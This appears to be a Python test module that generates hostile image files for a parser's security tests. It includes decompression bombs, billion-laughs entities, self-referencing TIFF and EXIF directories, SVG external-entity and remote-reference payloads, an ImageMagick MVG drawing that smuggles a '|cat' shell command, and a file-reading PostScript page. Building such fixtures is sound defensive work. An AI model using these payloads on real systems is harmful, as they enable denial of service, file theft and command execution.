"""Pictures of a few bytes and many pixels, and pictures whose parts point at each other or at us."""

from __future__ import annotations

import struct
import zlib

from tests import samples
from tests.hostile.catalogue import Bait, baited, hostile
from tests.hostile.files.archives import zlib_zeros

PNG = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, data: bytes, *before: bytes, depth: int = 8, colour: int = 0, lace: int = 0) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, lace)
    chunks = [png_chunk(b"IHDR", head), *before, png_chunk(b"IDAT", data), png_chunk(b"IEND", b"")]
    return PNG + b"".join(chunks)


@hostile("header.png")
def png_of_65535_squared() -> bytes:
    """A head that claims four thousand million pixels."""
    return samples.huge_png()


@hostile("negative.png")
def png_of_2_31_squared() -> bytes:
    """Sides of 2^31-1."""
    return png(2**31 - 1, 2**31 - 1, zlib.compress(b""))


@hostile("grey.png")
def png_bomb() -> bytes:
    """16,000 by 16,000 real pixels in 250 KB: just below the limit."""
    return png(16_000, 16_000, zlib_zeros(245))


@hostile("laced.png")
def png_bomb_interlaced() -> bytes:
    """16 bits, four channels, interlaced: 2 GiB that must be held whole to be shown."""
    return png(16_000, 16_000, zlib_zeros(1954), depth=16, colour=6, lace=1)


@hostile("profile.png")
def png_with_a_profile_bomb() -> bytes:
    """A colour profile and texts that unpack to 1 GiB each."""
    data = zlib_zeros(1024)
    return png(
        1,
        1,
        zlib.compress(b"\0\0"),
        png_chunk(b"iCCP", b"icc\0\0" + data),
        png_chunk(b"zTXt", b"Comment\0\0" + data),
        png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + data),
    )


@hostile("texts.png")
def png_of_many_texts() -> bytes:
    """A hundred thousand text chunks."""
    return png(1, 1, zlib.compress(b"\0\0"), png_chunk(b"tEXt", b"Comment\0x") * 100_000)


@hostile("length.png")
def png_of_absurd_chunk() -> bytes:
    """A chunk that claims 4 GiB."""
    return samples.png()[:33] + b"\xff\xff\xff\xffIDAT" + bytes(100)


@hostile("frames.png")
def apng_of_many_frames() -> bytes:
    """An animation of 2^31 frames, each larger than its canvas."""
    control = png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    frame = png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 2**31 - 1, 2**31 - 1, 2**30, 2**30, 0, 0, 0, 0))
    return png(1, 1, zlib.compress(b"\0\0"), control, frame * 1000)


@hostile("canvas.gif")
def gif_of_absurd_canvas() -> bytes:
    """65,535 by 65,535 with a thousand frames of one pixel."""
    return b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0xF0, 0, 0) + bytes(6) + _GIF_FRAME * 1000 + b";"


_GIF_FRAME = b"!\xf9\4\0\1\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0"


@hostile("frames.gif")
def gif_of_many_frames() -> bytes:
    """A hundred thousand frames."""
    return b"GIF89a" + struct.pack("<HHBBB", 500, 500, 0xF0, 0, 0) + bytes(6) + _GIF_FRAME * 100_000 + b";"


@hostile("endless.gif")
def gif_without_end() -> bytes:
    """Extensions inside extensions, and no trailer."""
    return b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0xF0, 0, 0) + bytes(6) + (b"!\xfe\xff" + b"!" * 255) * 5000


@hostile("solid.webp")
def webp_bomb() -> bytes:
    """16,383 by 16,383 pixels in forty bytes: every symbol of it takes no bits at all."""
    bits, place = 0, 0
    for value, width in [(16382, 14), (16382, 14), (0, 1), (0, 3), (0, 3), *[(0b0001, 4)] * 5]:
        bits |= value << place
        place += width
    body = b"\x2f" + bits.to_bytes(16, "little")
    return b"RIFF" + struct.pack("<I", len(body) + 13) + b"WEBPVP8L" + struct.pack("<I", len(body)) + body + b"\0"


@hostile("canvas.webp")
def webp_of_absurd_canvas() -> bytes:
    """A canvas of 2^24 squared, and ten thousand empty frames."""
    head = b"VP8X" + struct.pack("<IB", 10, 0x3E) + bytes(3) + b"\xff" * 6
    frames = b"ANIM" + struct.pack("<IIH", 6, 0, 0) + (b"ANMF" + struct.pack("<I", 16) + b"\xff" * 16) * 10_000
    return b"RIFF" + struct.pack("<I", 4 + len(head + frames)) + b"WEBP" + head + frames


def tiff(*entries: tuple[int, int, int, int], following: int = 0, tail: bytes = b"") -> bytes:
    """One directory at offset 8. An entry is tag, type, count, value."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + body + struct.pack("<I", following) + tail


def _tiff_picture(width: int, height: int, **more: int) -> list[tuple[int, int, int, int]]:
    return [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, more.get("compression", 1)),
        (262, 3, 1, 1),
        (273, 4, 1, more.get("strip", 8)),
        (277, 3, 1, more.get("samples", 1)),
        (278, 4, 1, more.get("rows", height)),
        (279, 4, 1, more.get("length", 64)),
    ]


@hostile("loop.tiff")
def tiff_whose_directory_follows_itself() -> bytes:
    """The next directory is this one."""
    return tiff(*_tiff_picture(8, 8), following=8, tail=bytes(64))


@hostile("pages.tiff")
def tiff_of_many_pages() -> bytes:
    """Twenty thousand directories."""
    entries, size = tiff(*_tiff_picture(8, 8))[8:-4], 2 + 12 * 9 + 4
    directories = (entries + struct.pack("<I", 8 + size * (n + 1)) for n in range(20_000))
    return b"II*\0" + struct.pack("<I", 8) + b"".join(directories) + entries + bytes(4)


@hostile("sub.tiff")
def tiff_whose_parts_point_at_each_other() -> bytes:
    """SubIFDs, EXIF and GPS are the directory itself."""
    links = [(tag, 4, 1, 8) for tag in (330, 34665, 34853, 40965)]
    return tiff(*_tiff_picture(8, 8), *links, tail=bytes(64))


@hostile("strips.tiff")
def tiff_of_absurd_counts() -> bytes:
    """Strips, samples and tags of 2^32-1."""
    most = 2**32 - 1
    return tiff(
        (256, 4, 1, most),
        (257, 4, 1, most),
        (258, 3, most, 8),
        (259, 3, 1, 8),
        (273, 4, most, 8),
        (277, 3, 1, 65535),
        (278, 4, 1, 1),
        (279, 4, most, 8),
        (34675, 7, most, 8),
        (700, 7, most, 8),
    )


@hostile("bomb.tiff")
def tiff_bomb() -> bytes:
    """One strip of 1 GiB, deflated."""
    data = zlib_zeros(1024)
    picture = _tiff_picture(32_768, 32_768, compression=8, strip=8 + 2 + 12 * 9 + 4, length=len(data))
    return tiff(*picture, tail=data)


@hostile("strip.tiff")
def tiff_bomb_within_the_limit() -> bytes:
    """256 million pixels in one strip, which must be unpacked whole."""
    data = zlib_zeros(732)
    picture = _tiff_picture(16_000, 16_000, compression=8, strip=8 + 2 + 12 * 9 + 4, length=len(data), samples=3)
    return tiff(*picture, tail=data)


@hostile("big.tiff")
def bigtiff_of_absurd_counts() -> bytes:
    """2^63 entries in a directory at 2^63."""
    return b"II+\0\x08\0\0\0" + struct.pack("<Q", 2**63 - 8) + bytes(64) + struct.pack("<Q", 2**63)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def jpeg_with(*segments: bytes) -> bytes:
    """A good picture with these segments in front."""
    return samples.jpeg()[:2] + b"".join(segments) + samples.jpeg()[2:]


@hostile("header.jpg")
def jpeg_of_65500_squared() -> bytes:
    """A good picture whose head claims 65,500 by 65,500."""
    data = bytearray(samples.jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(data)


def scanned_jpeg(
    side: int, scans: int, *, components: int = 1, arithmetic: bool = False, progressive: bool = True
) -> bytes:
    """A square picture that is gone over so many times; almost nothing is coded in any scan."""
    kind = (0xC2 if progressive else 0xC0) + 8 * arithmetic + (0 if progressive else arithmetic)
    frame = struct.pack(">BHHB", 8, side, side, components) + b"".join(
        bytes((n + 1, 0x11, 0)) for n in range(components)
    )
    table = b"\0" + bytes([1] + [0] * 15) + b"\0"
    tables = _segment(0xDB, b"\0" + b"\1" * 64)
    if not arithmetic:
        tables += _segment(0xC4, table) + _segment(0xC4, b"\x10" + table[1:])
    every = b"".join(bytes((n + 1, 0)) for n in range(components))
    first = _segment(0xDA, bytes((components,)) + every + (b"\0\0\0" if progressive else b"\0\x3f\0")) + b"\0"
    band = (b"\1\1\0" + bytes((1 + n % 63, 1 + n % 63, 0)) for n in range(scans - 1))
    later = (_segment(0xDA, each if progressive else b"\1\1\0\0\x3f\0") + b"\0" for each in band)
    return b"\xff\xd8" + tables + _segment(kind, frame) + first + b"".join(later) + b"\xff\xd9"


@hostile("scans.jpg")
def jpeg_of_many_scans() -> bytes:
    """Progressive, 16,000 by 16,000, with a thousand empty scans: each goes over every pixel."""
    return scanned_jpeg(16_000, 1000)


@hostile("arithmetic.jpg")
def jpeg_of_many_arithmetic_scans() -> bytes:
    """The same in arithmetic coding, of which a few bytes may stand for any number of pixels."""
    return scanned_jpeg(16_000, 1000, arithmetic=True)


@hostile("exif.jpg")
def jpeg_whose_exif_points_at_itself() -> bytes:
    """IFD1 is IFD0, and so are the EXIF, GPS and interoperability directories."""
    links = [(tag, 4, 1, 8) for tag in (34665, 34853, 40965)]
    return jpeg_with(_segment(0xE1, b"Exif\0\0" + tiff((274, 3, 1, 6), *links, following=8)))


@hostile("counts.jpg")
def jpeg_of_absurd_exif() -> bytes:
    """Counts of 2^32-1, a thumbnail beyond the end, a maker's note of everything, an orientation of 60,000."""
    most = 2**32 - 1
    entries = [(274, 3, 1, 60_000), (271, 2, most, 8), (513, 4, 1, most), (514, 4, 1, most), (37500, 7, most, 0)]
    return jpeg_with(_segment(0xE1, b"Exif\0\0" + tiff(*entries, *[(306, 12, most, most)] * 2000)))


@hostile("icc.jpg")
def jpeg_of_absurd_profile() -> bytes:
    """A profile that claims 4 GiB and 2^31 tags, in 255 pieces."""
    head = struct.pack(">I4sI4s4s4s", 2**32 - 1, b"lcms", 0x04300000, b"mntr", b"RGB ", b"XYZ ") + bytes(104)
    tags = struct.pack(">I", 2**31) + struct.pack(">4sII", b"A2B0", 128, 2**31) * 5000
    piece = (head + tags)[:65_000]
    return jpeg_with(*[_segment(0xE2, b"ICC_PROFILE\0" + bytes((n, 255)) + piece) for n in range(1, 256)])


@hostile("segments.jpg")
def jpeg_of_many_segments() -> bytes:
    """Ten thousand comments and applications' segments."""
    return jpeg_with(*[_segment(0xFE, b"x" * 500), _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x")] * 5000)


@hostile("xmp.jpg")
def jpeg_with_an_entity_bomb() -> bytes:
    """XMP that is a billion laughs."""
    return jpeg_with(_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + laughs("x:xmpmeta")))


def laughs(root: str, body: str = "&l9;", levels: int = 9, attributes: str = "") -> bytes:
    """A billion laughs in a document of this root."""
    entities = ['<!ENTITY l0 "ha ha ha ha ">']
    for n in range(1, levels + 1):
        again = f"&l{n - 1};" * 10
        entities.append(f'<!ENTITY l{n} "{again}">')
    return f"<?xml version='1.0'?><!DOCTYPE r [{''.join(entities)}]><{root} {attributes}>{body}</{root}>".encode()


SVG = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"


def svg(body: str, attributes: str = "width='64' height='64'") -> bytes:
    return f"<?xml version='1.0'?><svg {SVG} {attributes}>{body}</svg>".encode()


@hostile("laughs.svg")
def svg_billion_laughs() -> bytes:
    """Entities that become gigabytes of text."""
    return laughs("svg", "<text y='20'>&l9;</text>", attributes=f"{SVG} width='64' height='64'")


@hostile("quadratic.svg")
def svg_quadratic() -> bytes:
    """One long entity, used a hundred thousand times."""
    head = f"<!DOCTYPE r [<!ENTITY a '{'a' * 100_000}'>]><svg {SVG} width='9' height='9'><text>"
    return head.encode() + b"&a;" * 100_000 + b"</text></svg>"


@baited("references.svg")
def svg_with_references(bait: Bait) -> bytes:
    """Pictures, fonts, styles, filters and documents from elsewhere."""
    places = (f"{bait.url}/svg", f"file://{bait.picture}", bait.picture, f"//127.0.0.1:{bait.port}/svg")
    parts = []
    for place in places:
        parts += [
            f"<image width='64' height='64' xlink:href='{place}'/><image width='64' height='64' href='{place}'/>",
            f"<use xlink:href='{place}#a'/><feImage xlink:href='{place}'/>",
            f"<style>@import url('{place}'); @font-face{{font-family:x;src:url('{place}')}} *{{fill:url({place}#a)}}",
            f"</style><script xlink:href='{place}'/><foreignObject><iframe src='{place}'/></foreignObject>",
            f"<text font-family='x' y='9'>x</text><filter id='f'><feImage href='{place}'/></filter>",
        ]
    style = f"<?xml-stylesheet href='{bait.url}/style' type='text/css'?>".encode()
    return style + svg("".join(parts) + "<rect width='64' height='64' filter='url(#f)'/>")


@baited("entity.svg")
def svg_with_outer_entities(bait: Bait) -> bytes:
    """External entities and a parameter entity: a file's text, a server's answer."""
    outer = f"<!ENTITY a SYSTEM 'file://{bait.text}'><!ENTITY b SYSTEM '{bait.url}/entity'>"
    include = f"<!ENTITY % p SYSTEM '{bait.url}/dtd'>%p;<!ENTITY c PUBLIC 'x' '{bait.text}'>"
    text = (
        "<text y='20'>&a;&b;&c;</text><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{}'/>"
    )
    return f"<!DOCTYPE svg [{outer}{include}]>".encode() + svg(text.format(bait.text))[21:]


@hostile("uses.svg")
def svg_of_nested_uses() -> bytes:
    """Each group shows the one before ten times: ten to the fifteenth squares."""
    groups = ["<rect id='g0' width='1' height='1'/>"]
    for n in range(1, 16):
        again = f"<use xlink:href='#g{n - 1}'/>" * 10
        groups.append(f"<g id='g{n}'>{again}</g>")
    return svg("".join(groups))


@hostile("loops.svg")
def svg_that_uses_itself() -> bytes:
    """Uses, patterns, masks, markers and filters that contain themselves."""
    parts = "<g id='a'><use xlink:href='#a'/></g>"
    parts += "<pattern id='p' width='1' height='1'><rect width='1' height='1' fill='url(#p)'/></pattern>"
    parts += "<mask id='m'><rect width='9' height='9' mask='url(#m)'/></mask>"
    parts += "<linearGradient id='l' xlink:href='#l'/><clipPath id='c' clip-path='url(#c)'/>"
    return svg(parts + "<rect width='9' height='9' fill='url(#p)' mask='url(#m)' stroke='url(#l)'/>")


@hostile("huge.svg")
def svg_of_absurd_size() -> bytes:
    """A thousand million units a side, blurred by as much."""
    blur = "<filter id='f' x='-1e9' width='2e9'><feGaussianBlur stdDeviation='1e9'/><feTurbulence numOctaves='1e9'/>"
    return svg(f"{blur}</filter><rect width='1e9' height='1e9' filter='url(#f)'/>", "width='1e9' height='1e9'")


@hostile("deep.svg")
def svg_of_great_depth() -> bytes:
    """A hundred thousand groups inside each other."""
    return svg("<g>" * 100_000 + "</g>" * 100_000)


@hostile("path.svg")
def svg_of_a_long_path() -> bytes:
    """A path of half a million curves, dashed a thousandth apart."""
    return svg(f"<path d='M0 0{'c1 1 9 9 99 -99' * 500_000}' stroke='red' stroke-dasharray='0.001'/>")


@hostile("header.bmp")
def bmp_of_absurd_size() -> bytes:
    """Sides of 2^31-1 and -2^31, run-length coded."""
    head = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, -(2**31), 1, 8, 1, 0, 0, 0, 2**31 - 1, 0)
    return b"BM" + struct.pack("<IHHI", 100, 0, 0, 54) + head + b"\xff\0" * 1000


@hostile("icons.ico")
def icon_of_many() -> bytes:
    """65,535 pictures, each of which is the icon itself."""
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, 2**31, 0)
    return struct.pack("<HHH", 0, 1, 65535) + entry * 2000


@hostile("layers.psd")
def psd_of_absurd_size() -> bytes:
    """300,000 pixels a side, 56 channels."""
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 56, 300_000, 300_000, 8, 3) + b"\xff" * 200


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


@hostile("items.heic")
def heif_of_absurd_items() -> bytes:
    """Items at 2^32-1, references in a circle, a grid of 65,535 tiles."""
    place = _box(b"iloc", struct.pack(">IHH", 0, 0x4400, 1) + struct.pack(">HHHII", 1, 0, 1, 2**32 - 1, 2**32 - 1))
    items = _box(b"iinf", struct.pack(">IH", 0, 65535) + _box(b"infe", b"\2\0\0\0\0\1\0\0grid\0") * 500)
    links = _box(b"iref", bytes(4) + _box(b"dimg", struct.pack(">HHH", 1, 1, 1)) * 500)
    shape = _box(b"iprp", _box(b"ipco", _box(b"ispe", struct.pack(">III", 0, 2**32 - 1, 2**32 - 1)) * 100))
    meta = bytes(4) + _box(b"hdlr", bytes(8) + b"pict" + bytes(13)) + _box(b"pitm", bytes(4) + b"\0\1")
    head = _box(b"ftyp", b"heic\0\0\0\0mif1heic")
    return head + _box(b"meta", meta + place + items + links + shape) + _box(b"mdat", bytes(100))


@hostile("items.avif")
def avif_of_absurd_items() -> bytes:
    """The same as AVIF."""
    return heif_of_absurd_items().replace(b"heic", b"avif")


@hostile("tiles.jp2")
def jpeg2000_of_absurd_size() -> bytes:
    """2^32-1 pixels a side in tiles of one."""
    most = 2**32 - 1
    size = struct.pack(">HHIIIIIIIIH", 41, 0, most, most, 0, 0, 1, 1, 0, 0, 1) + b"\7\1\1"
    return b"\xff\x4f\xff\x51" + size + b"\xff\x52\0\x0c\0\0\0\1\0\5\4\4\0\1" + b"\xff\x90" + bytes(100)


@hostile("header.ppm")
def netpbm_of_absurd_size() -> bytes:
    """Ninety-nine million pixels a side."""
    return b"P6 99999999 99999999 255\n" + bytes(100)


@hostile("header.hdr")
def radiance_of_absurd_size() -> bytes:
    """Likewise, as Radiance."""
    return b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999999 +X 99999999\n" + b"\2\2\xff\xff" * 100


@baited("picture.mvg")
def drawing_for_a_shell(bait: Bait) -> bytes:
    """A drawing for ImageMagick that fetches, reads and runs."""
    run = f"push graphic-context\nviewbox 0 0 64 64\nfill 'url({bait.url}/\"|cat {bait.text}\")'\n"
    return run.encode() + f"image over 0,0 64,64 'msl:{bait.text}'\npop graphic-context\n".encode()


@baited("page.ps")
def postscript(bait: Bait) -> bytes:
    """A page for Ghostscript that reads a file and never ends."""
    return f"%!PS-Adobe-3.0\n({bait.text}) (r) file 1000 string readstring pop show\n{{}} loop\n".encode()
